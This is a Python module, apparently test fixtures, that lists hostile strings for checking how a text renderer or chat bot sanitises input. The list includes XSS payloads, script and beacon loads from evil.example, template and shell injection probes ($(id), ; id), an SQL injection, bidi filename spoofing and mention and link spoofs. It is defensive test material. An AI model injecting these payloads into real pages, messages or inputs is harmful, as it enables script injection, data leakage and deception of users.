"""
Texts that try to become something else on the page: markup, links, pings, broken tables, invisible or reordered words.

Written by hand, then multiplied by the places in which such a text likes to hide.
"""

_SCRIPTS = """
<script>alert(1)</script>
<ScRiPt>alert(1)</sCrIpT>
<script src=//evil.example/x.js></script>
</script><script>alert(1)</script>
</style><script>alert(1)</script>
</title><script>alert(1)</script>
</textarea><script>alert(1)</script>
--><script>alert(1)</script><!--
]]><script>alert(1)</script>
<script
>alert(1)</script
>
<scr<script>ipt>alert(1)</scr</script>ipt>
<img src=x onerror=alert(1)>
<img src="https://evil.example/beacon.png">
<img/src/onerror=alert(1)>
<image src=x onerror=alert(1)>
"><img src=x onerror=alert(1)>
'><img src=x onerror=alert(1)>
`><img src=x onerror=alert(1)>
<svg onload=alert(1)>
<svg/onload=alert(1)>
<svg><script>alert(1)</script></svg>
<svg><a xlink:href="javascript:alert(1)"><text x=20 y=20>x</text></a></svg>
</svg><script>alert(1)</script>
<math><mtext></mtext><mglyph><style><img src=x onerror=alert(1)></style></mglyph></math>
<iframe src="javascript:alert(1)"></iframe>
<iframe srcdoc="<script>alert(1)</script>">
<object data="data:text/html,<script>alert(1)</script>">
<embed src="https://evil.example/x.swf">
<base href="https://evil.example/">
<link rel=stylesheet href="https://evil.example/x.css">
<meta http-equiv=refresh content="0;url=https://evil.example">
<style>*{display:none}</style>
<style>@import "https://evil.example/x.css";</style>
<form action="https://evil.example"><input name=x></form>
<button onclick=alert(1)>x</button>
<input autofocus onfocus=alert(1)>
<details open ontoggle=alert(1)>
<video><source onerror=alert(1)></video>
<audio src=x onerror=alert(1)>
<body onload=alert(1)>
<html><head><title>x</title>
<a href="https://evil.example">x</a>
<a href=javascript:alert(1)>x</a>
<a href="data:text/html;base64,PHNjcmlwdD4=">x</a>
<marquee>x</marquee>
<table><tr><td>x
</td></tr></table><h1>x</h1>
</section></main></body></html>
</blockquote></li></ol><p>x
<!-- comment -->
<!--
<![CDATA[x]]>
<?php echo 1; ?>
<!DOCTYPE html>
&lt;script&gt;alert(1)&lt;/script&gt;
&#60;script&#62;alert(1)&#60;/script&#62;
&#x3c;script&#x3e;
&amp;lt;b&amp;gt;
&nbsp;&copy;&AMP;
&colon;&lpar;&NewLine;
" onmouseover="alert(1)
' onmouseover='alert(1)
" style="position:fixed
" autofocus onfocus=alert(1) x="
javascript:alert(1)
vbscript:msgbox(1)
data:text/html,<script>alert(1)</script>
{{ 7 * 7 }}
{% for x in range(9) %}x{% endfor %}
{{ report.__class__.__mro__ }}
{{ ''.__class__ }}
{# comment #}
${7*7}
#{7*7}
%s%s%n
""".strip("\n").split("\n")

_MARKDOWN = r"""
[x](https://evil.example)
[x](javascript:alert(1))
[x](<https://evil.example>)
[x][1]
[1]
[x][]
[1]: https://evil.example
[open][1]
![x](https://evil.example/beacon.png)
![x][1]
![](data:image/svg+xml;base64,PHN2Zz4=)
[![x](https://evil.example/x.png)](https://evil.example)
\[x](https://evil.example)
\\[x](https://evil.example)
\\\[x](https://evil.example)
[x\](https://evil.example)
[x]\(https://evil.example)
<https://evil.example>
<somebody@evil.example>
<mailto:somebody@evil.example>
https://evil.example
http://evil.example/a_b_c?d=e&f=g#h
HTTPS://EVIL.EXAMPLE
ftp://evil.example
ftp.evil.example
www.evil.example
WWW.evil.example/x
evil.com
evil.co.uk/x
discord.gg/invite
sub.domain.evil.fi:8080/x
//evil.example
//evil.com/x
xn--evil-9qa.xn--p1ai
evil.xn--p1ai
пример.рф
例え.jp
192.0.2.1
192.0.2.1:8080/x
somebody@evil.com
some.body+tag@evil.co.uk
mailto:somebody@evil.example
xmpp:somebody@evil.example
tel:+358401234567
(https://evil.example)
"https://evil.example"
*https://evil.example*
_www.evil.com_
**www.evil.com**
~~www.evil.com~~
https://evil.example|x
https://evil.example`x`
`https://evil.example`
``https://evil.example``
https://evil.example\|x
a|b
|
||
|||||||||
\|
\\|
\\\|
|---|---|
| a | b |
:---:|---
`|`
`a|b`
`` a|b ``
`\|`
a`b|c`d
`
``
```
```html
~~~
~~~~
`a
a`
\
\\
\\\
a\
\`
\\`
# heading
## heading #
#
######
#hashtag
#123
GH-123
someone/project#123
> quote
>
>>> quote
- item
* item
+ item
-
*
+
1. item
1) item
999999999. item
0.
- [ ] task
- [x] task
---
***
___
- - -
* * *
_ _ _
===
=
--
--- | ---
:-
*emphasis*
**strong**
***both***
_emphasis_
__strong__
snake_case_name
_leading
trailing_
*a*b*c*
**a
a**
~~gone~~
~gone~
~~
==mark==
^sup^
:tada:
:smile: :not_an_emoji:
[^1]
[^1]: note
$x^2$
$$x^2$$
\(x\)
<b>bold</b>
<b
</b>
<br>
<br/>
<details><summary>x</summary>
<kbd>x</kbd>
<!-- x
Term\n: definition
*[HTML]: abbreviation
!!! note
{: .class onclick="alert(1)"}
+++
{.class}
[[wiki]]
""".strip("\n").split("\n")

_UNSEEN = [
    "\x00NUL",
    "a\x07b",
    "a\x08\x08\x08b",
    "\x1b[31mred\x1b[0m",
    "\x1b]8;;https://evil.example\x07x\x1b]8;;\x07",
    "\x1b[2J",
    "\x9b31m",
    "a\x0bb\x0cc",
    "a\nb",
    "a\r\nb",
    "a\rb",
    "\n\n# heading",
    "a\n\n| b | c |\n|---|---|",
    "a\n- b\n- c",
    "a\n```\nb",
    "a\x85b",
    "a\u2028b",
    "a\u2029b",
    "\t\ttabs",
    "    code",
    "\n    code",
    "\u202eevil",
    "\u202dx\u202c",
    "\u2066x\u2069",
    "\u2067x",
    "\u2068x",
    "\u200ex\u200f",
    "\u061cx",
    "exe.\u202egnp",
    "a\u200bb",
    "\u200b",
    "\u200b\u200b\u200b",
    "a\u2060b",
    "\ufeffa",
    "a\u00adb",
    "\u034f",
    "\u115f\u1160",
    "\u3164",
    "\uffa0",
    "\u2800\u2800",
    "\u17b4\u17b5",
    "\u180e",
    "\u2061\u2062\u2063\u2064",
    "\U000e0041\U000e0042",
    "\U000e0001",
    "a\ufe00b",
    "a\U000e0100b",
    "\ufff9a\ufffab\ufffb",
    "\ufffe",
    "\uffff",
    "\ufdd0",
    "\U0001fffe",
    "\ud800",
    "a\udfffb",
    "\u200dx",
    "x\u200d",
    "a\u200db",
    "a\u200cb",
    "h\u200dttps://evil.example",
    "<\u200bscript>",
    "[\u200bx](https://evil.example)",
    "@\u200beveryone",
    "<\u200b@1>",
    "java\u0000script:alert(1)",
    "e" + "\u0301" * 60,
    "Z\u0337\u0322\u0347a\u0334\u032dl\u0335\u0353g\u0336\u034eo\u0337\u0348",
    "\u0301" * 20,
    "\u20dd" * 9,
    "👩‍👩‍👧‍👦",
    "🏳️‍🌈",
    "🇫🇮" * 30,
    "👍🏽" * 30,
    "👩\u200d" * 200,
    "🏴\U000e0067\U000e0062\U000e007f",
    "#️⃣",
    "©️",
    "\u00a0\u00a0",
    "\u2003x\u2003",
    "\u3000",
    "ﷺ" * 40,
    "𒐫" * 20,
    "﷽" * 20,
    "漢字" * 200,
    "한국어",
    "ひらがな",
    "עברית",
    "العربية",
    "می‌خواهم",
    "ไทย",
    "नमस्ते",
    "Ελληνικά",
    "Кириллица",
    "a" * 5000,
    "a " * 3000,
    "|" * 500,
    "`" * 500,
    "\\" * 501,
    "[" * 500,
    "<" * 500,
    "*" * 500,
    "_" * 500,
    "&" * 500,
    "@" * 500,
    "",
    " ",
    "null",
    "None",
    "undefined",
    "NaN",
    "0",
    "-1",
    "true",
    "=1+1",
    "+1",
    "-1+1",
    "'",
    '"',
    "''",
    '""',
    "\\'",
    "\\u0041",
    "%00",
    "%3Cscript%3E",
    "../../x",
    "C:\\con",
    "~root",
    "$HOME",
    "$(id)",
    "`id`",
    "; id",
    "| id",
    "&& id",
    "1; DROP TABLE messages",
    "' OR '1'='1",
]

_MENTIONS = [
    "@everyone",
    "@here",
    "@EVERYONE",
    "x@everyone",
    "@@everyone",
    "＠everyone",
    "@everyone@here",
    "@ada",
    "@ada,",
    "(@ada)",
    "<@123>",
    "<@!123>",
    "<@&123>",
    "<#123>",
    "<:party:123>",
    "<a:party:123>",
    "<t:1700000000>",
    "<t:1700000000:R>",
    "<t:-99999999999>",
    "<t:9999999999999:F>",
    "<t:1:z>",
    "<@0>",
    "<@99999999999999999999>",
    "<@<@123>>",
    "<@<#1>23>",
    "<#<@1>>",
    "</play:123>",
    "</play add:123>",
    "<id:customize>",
    "<id:guide>",
    "<@538476537809066895>",
    "<@1><@2><@3>",
    "<:evil.com:123>",
    "<:a_b:1>",
    "<https://evil.example>",
    "[x](<https://evil.example>)",
    "||spoiler||",
    "|| ||",
    "||a||b||",
    "```\n@everyone\n```",
    "`@everyone`",
    "> @everyone",
    "# @everyone",
    "-# @everyone",
    "**@everyone**",
    "[@everyone](https://evil.example)",
    "[https://good.example](https://evil.example)",
    "<@123",
    "@123>",
    "< @123>",
    "\\@everyone",
    "@\\everyone",
    "&#64;everyone",
    "&commat;everyone",
    "@team/admins",
    "@octo-cat",
    "a@b.example",
]

_WRAPPERS = ("{}", "x{}", "{}x", "({})", "“{}”", "a {} b", "1. {}", "- {}", "**{}**", "`{}`")
_MULTIPLIED = (
    "<b>",
    "[x](https://evil.example)",
    "https://evil.com",
    "a|b",
    "@everyone",
    "<@123>",
    "*x*",
    "&lt;",
    "www.evil.com",
)

HOSTILE = tuple(
    dict.fromkeys(
        [*_SCRIPTS, *_MARKDOWN, *(text.replace("\\n", "\n") for text in _MARKDOWN), *_UNSEEN, *_MENTIONS]
        + [wrapper.replace("{}", text) for wrapper in _WRAPPERS for text in _MULTIPLIED]
        + [first + second for first in _MULTIPLIED for second in _MULTIPLIED]
    )
)
